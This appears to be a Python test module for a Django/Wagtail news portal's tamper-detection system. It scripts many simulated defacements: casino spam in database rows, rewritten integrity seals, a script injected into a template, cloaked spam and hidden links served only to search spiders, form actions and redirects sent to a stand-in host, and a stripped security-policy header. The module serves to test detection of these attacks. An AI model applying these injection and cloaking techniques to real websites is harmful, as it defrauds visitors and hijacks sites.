"""Ways to deface the site, each done as somebody would who is no editor: in tables, in files, or before the site."""

import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path

from django.conf import settings
from django.db import connection
from django.utils import timezone
from wagtail.images.models import Image
from wagtail.models import Page, Revision

from yunying.portal.news.models import ArticlePage, ColumnPage, HomePage, PortalSettings
from yunying.portal.news.tests.written import articles_copied
from yunying.portal.watch.models import Seal
from yunying.portal.watch.published import Rendition
from yunying.portal.watch.site import Answer
from yunying.portal.watch.tests.watched import FILES, Between, Change, Watched, article, forget

SPAM = "澳门新葡京娱乐场 - 彩票平台官网注册 - 棋牌游戏下载"
ELSEWHERE = "https://casino.example/"
PAGE = "/news/industry/ecommerce/article-1/"
PICTURED = "/news/industry/ecommerce/pictured/"


@dataclass(frozen=True)
class Defacement:
    """One of them: what it is called, how it is done, and a kind that must be told of it."""

    name: str
    kind: str
    do: Callable[[Watched], None]
    subject: str = ""


def body_changed(slug: str, change: Callable[[str], str]) -> None:
    """Alter the body's column itself."""
    with connection.cursor() as cursor:
        pk = article(slug).pk
        cursor.execute("SELECT body FROM news_articlepage WHERE page_ptr_id = %s", [pk])
        blocks = cursor.fetchone()[0]
        for block in (raw := json.loads(blocks) if isinstance(blocks, str) else blocks):
            if block["type"] == "text":
                block["value"] = change(block["value"])
        cursor.execute("UPDATE news_articlepage SET body = %s WHERE page_ptr_id = %s", [json.dumps(raw), pk])


def row_changed(model: type, slug: str = "", **fields: object) -> Callable[[Watched], None]:
    def do(site: Watched) -> None:
        rows = model.objects.filter(**({"slug": slug} if slug else {}))
        assert rows.update(**fields) == 1

    return do


def before_the_site(change: Change) -> Callable[[Watched], None]:
    def do(site: Watched) -> None:
        site.application = Between(site.application, change)

    return do


def is_spider(headers: Mapping[str, str]) -> bool:
    return "spider" in headers["User-Agent"] or "bot" in headers["User-Agent"]


def is_page(answer: Answer) -> bool:
    return answer.headers.get("content-type", "").startswith("text/html") and answer.status == 200


def html_changed(
    old: str, new: str, *, only: Callable[[str, Mapping[str, str]], bool] = lambda path, headers: True
) -> Callable[[Watched], None]:
    """Put other markup into the pages that some readers get."""

    def change(path: str, headers: Mapping[str, str], answer: Answer) -> Answer:
        if not is_page(answer) or not only(path, headers):
            return answer
        return replace(answer, body=re.sub(old, new, answer.text, count=1, flags=re.DOTALL).encode())

    return before_the_site(change)


def to_spiders(path: str, headers: Mapping[str, str]) -> bool:
    return is_spider(headers)


def one_page(path: str, headers: Mapping[str, str]) -> bool:
    return path == PAGE


def answer_changed(only: Callable[[str, Mapping[str, str]], bool], **fields: object) -> Callable[[Watched], None]:
    return before_the_site(lambda path, headers, answer: replace(answer, **fields) if only(path, headers) else answer)


def text_added(path: str, old: str, new: str) -> Callable[[Watched], None]:
    def change(asked: str, headers: Mapping[str, str], answer: Answer) -> Answer:
        return replace(answer, body=answer.text.replace(old, new).encode()) if asked == path else answer

    return before_the_site(change)


def spam_page(site: Watched) -> None:
    articles_copied(article("article-1"), 1)


def draft_shown(site: Watched) -> None:
    page = article("article-3")
    page.unpublish()
    site.turn()
    Page.objects.filter(pk=page.pk).update(live=True, title=SPAM)


def page_wiped(site: Watched) -> None:
    page = article("article-0")
    Seal.objects.filter(subject=f"page/{page.pk}").delete()
    Page.objects.filter(pk=page.pk).update(live=False)


def seal_rewritten(site: Watched) -> None:
    page = article("article-2")
    Page.objects.filter(pk=page.pk).update(title=SPAM)
    seal = Seal.objects.get(subject=f"page/{page.pk}")
    Seal.objects.filter(pk=seal.pk).update(content={**seal.content, "title": SPAM})


def seal_put_back(site: Watched) -> None:
    page = article("article-2")
    old = Seal.objects.filter(subject=f"page/{page.pk}").values().get()
    title = page.title
    page.title, page.draft_title = "A correction", "A correction"
    page.save_revision().publish()
    site.turn()
    Page.objects.filter(pk=page.pk).update(title=title, last_published_at=old["content"]["last_published_at"])
    Seal.objects.filter(pk=old.pop("id")).update(**old)


def revision_changed(site: Watched) -> None:
    page = article("article-2")
    page.go_live_at = timezone.now() + timedelta(days=1)
    revision = page.save_revision()
    revision.publish()
    site.turn()
    Revision.objects.filter(pk=revision.pk).update(content={**revision.content, "title": SPAM})


def picture_bytes(model: type) -> Callable[[Watched], None]:
    def do(site: Watched) -> None:
        for row in model.objects.all():
            Path(row.file.path).write_bytes(b"RIFF-another-picture")

    return do


def media_page(site: Watched) -> None:
    (Path(settings.MEDIA_ROOT) / "images" / "bonus.html").write_text(f"<title>{SPAM}</title>", encoding="utf-8")


def template_changed(site: Watched) -> None:
    path = site.folder / FILES / "news" / "frame.html"
    script = f"<script src='{ELSEWHERE}j.js'></script></body>"
    path.write_text(path.read_text(encoding="utf-8").replace("</body>", script), encoding="utf-8")
    forget()


def program_added(site: Watched) -> None:
    (site.folder / FILES / "shell.py").write_text("import os\n", encoding="utf-8")


def doorways(path: str, headers: Mapping[str, str]) -> bool:
    return path.endswith(".html") and "?" not in path and is_spider(headers)


def from_search(path: str, headers: Mapping[str, str]) -> bool:
    return "baidu.com" in headers.get("Referer", "")


def on_a_phone(path: str, headers: Mapping[str, str]) -> bool:
    return "Mobile" in headers["User-Agent"]


def front_of_spiders(path: str, headers: Mapping[str, str]) -> bool:
    return path == "/" and is_spider(headers)


def as_gbk(path: str, headers: Mapping[str, str], answer: Answer) -> Answer:
    if path != PICTURED:
        return answer
    return replace(answer, body=answer.body.decode("gb18030", "replace").encode())


READINGS = (("镇", "鎮(zhèn)"), ("说", "說(shuō)"), ("这", "這(zhè)"), ("没", "沒(méi)"), ("过", "過(guò)"))
"""A few of those that a machine put into the page that was copied to begin with."""


def with_readings(text: str) -> str:
    for plain, read in READINGS:
        text = text.replace(plain, read)
    return text


def readings_served(path: str, headers: Mapping[str, str], answer: Answer) -> Answer:
    if path != PICTURED:
        return answer
    head, mark, rest = answer.text.partition("<article")
    return replace(answer, body=(head + mark + with_readings(rest)).encode())


BEFORE_END = r"</body>"
DEFACEMENTS = (
    # In the tables.
    Defacement("a title of spam strings, as the first page had it", "row", row_changed(Page, "pictured", title=SPAM)),
    Defacement("readings put into the text, as the first page had them", "broken-text",
               lambda site: body_changed("pictured", with_readings)),
    Defacement("a text whose characters are broken", "broken-text", lambda site: body_changed(
        "pictured", lambda text: text.encode().decode("gb18030", "replace"))),
    Defacement("a link in the text", "row",
               lambda site: body_changed("article-1", lambda text: f"{text}<p><a href='{ELSEWHERE}'>win</a></p>")),
    Defacement("another summary", "row", row_changed(ArticlePage, "article-1", summary=SPAM)),
    Defacement("other keywords", "row", row_changed(ArticlePage, "article-1", keywords=SPAM)),
    Defacement("another address of the source", "row", row_changed(ArticlePage, "pictured", source_address=ELSEWHERE)),
    Defacement("a column's Chinese title", "row", row_changed(ColumnPage, "industry", title_zh=SPAM)),
    Defacement("another announcement", "row", row_changed(
        HomePage, layout=json.dumps([{"type": "notice", "value": {"words": SPAM, "words_zh": SPAM}, "id": "a"}]))),
    Defacement("the portal's name", "row", row_changed(PortalSettings, name_zh=SPAM)),
    Defacement("a page made by copying rows", "page-new", spam_page),
    Defacement("a draft set live", "page-new", draft_shown),
    Defacement("a page moved by its address", "place", row_changed(
        Page, "article-2", url_path="/portal/industry/ecommerce/bonus/")),
    Defacement("a page taken away with its seal", "seal", page_wiped),
    Defacement("a title and its seal rewritten", "seal", seal_rewritten),
    Defacement("an older state put back with its seal", "seal", seal_put_back),
    Defacement("a scheduled revision rewritten", "draft", revision_changed),
    # In the files.
    Defacement("another picture in a picture's file", "picture", picture_bytes(Image)),
    Defacement("another picture in a size's file", "picture", picture_bytes(Rendition)),
    Defacement("a page in the media folder", "media-new", media_page),
    Defacement("a script in a template", "file", template_changed),
    Defacement("a program among ours", "file-new", program_added),
    # Before the site, for all or for some.
    Defacement("a title for spiders only", "title", html_changed(
        r"<title>.*?</title>", f"<title>{SPAM}</title>", only=to_spiders)),
    Defacement("a description for spiders only", "meta", html_changed(
        r'name="description" content="[^"]*"', f'name="description" content="{SPAM}"', only=to_spiders)),
    Defacement("another canonical address", "meta", html_changed(
        r'rel="canonical" href="[^"]*"', f'rel="canonical" href="{ELSEWHERE}"', only=to_spiders)),
    Defacement("another headline in structured data", "structured", html_changed(
        r'"headline": "[^"]*"', f'"headline": "{SPAM}"')),
    Defacement("a foreign script", "script", html_changed(
        BEFORE_END, f'<script src="{ELSEWHERE}a.js"></script></body>')),
    Defacement("a script in the page", "script", html_changed(BEFORE_END, "<script>top.name</script></body>")),
    Defacement("a script in an attribute", "script", html_changed(
        "<body ", f"<body onload=\"location='{ELSEWHERE}'\" ", only=on_a_phone)),
    Defacement("a frame over the page", "frame", html_changed(
        BEFORE_END, f'<iframe src="{ELSEWHERE}"></iframe></body>')),
    Defacement("links that nobody sees, for spiders on one page", "hidden", html_changed(
        BEFORE_END, f'<div style="display: none"><a href="{ELSEWHERE}">{SPAM}</a></div></body>',
        only=lambda path, headers: path == PAGE and is_spider(headers))),
    Defacement("links off the screen", "hidden", html_changed(
        BEFORE_END, f'<p style="position:absolute;left:-9999px"><a href="{ELSEWHERE}">x</a></p></body>')),
    Defacement("text of no size", "hidden", html_changed(BEFORE_END, f'<p style="font-size: 0">{SPAM}</p></body>')),
    Defacement("a plain link on the front page", "link", html_changed(
        "</main>", f'<a href="{ELSEWHERE}">{SPAM}</a></main>', only=front_of_spiders)),
    Defacement("a link to a page of the site that nobody published", "link", html_changed(
        "</main>", '<a href="/news/bonus/">more</a></main>')),
    Defacement("a form that sends elsewhere", "form", html_changed('action="[^"]*"', f'action="{ELSEWHERE}"')),
    Defacement("a foreign style sheet", "style", html_changed(
        "</head>", f'<link rel="stylesheet" href="{ELSEWHERE}a.css"></head>')),
    Defacement("a page that sends phones on", "refresh", html_changed(
        "</head>", f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}"></head>', only=on_a_phone)),
    Defacement("a redirect for who comes from a search", "refresh", answer_changed(
        from_search, status=302, headers={"location": ELSEWHERE}, body=b"")),
    Defacement("words in the page", "text", html_changed("</main>", f"<p>{SPAM}</p></main>", only=one_page)),
    Defacement("a number in the text", "text", html_changed(
        "三十年", "五十年", only=lambda path, headers: path == PICTURED)),
    Defacement("a page that says nothing", "text-gone", html_changed(
        r"<article class.*</article>", '<article class="article"></article>', only=one_page)),
    Defacement("readings put in on the way", "broken-text", before_the_site(readings_served)),
    Defacement("characters broken on the way", "broken-text", before_the_site(as_gbk)),
    Defacement("another picture on a page", "picture-shown", html_changed(
        r'<figure><img src="[^"]*"', f'<figure><img src="{ELSEWHERE}p.webp"')),
    Defacement("pages that may load anything", "header", before_the_site(
        lambda path, headers, answer: replace(answer, headers={
            name: value for name, value in answer.headers.items() if name != "content-security-policy"}))),
    Defacement("robots.txt that lets nobody in", "map", answer_changed(
        lambda path, headers: path == "/robots.txt", body=b"User-agent: *\nDisallow: /\n")),
    Defacement("a foreign page in the site map", "map", text_added(
        "/sitemap.xml", "</urlset>", f"<url><loc>{ELSEWHERE}</loc></url></urlset>")),
    Defacement("a foreign item in the feed", "map", text_added(
        "/news/rss.xml", "</channel>", f"<item><title>{SPAM}</title></item></channel>")),
    Defacement("pages of spam at any address, for spiders", "answers", answer_changed(
        doorways, status=200, headers={"content-type": "text/html"}, body=b"<title>bonus</title>")),
    Defacement("another script behind our address", "asset", before_the_site(
        lambda path, headers, answer: replace(answer, body=answer.body + b"\nevil()")
        if path.startswith("/static/news/news.js") else answer)),
    Defacement("no page at all", "status", answer_changed(one_page, status=500, headers={}, body=b"")),
)  # fmt: skip
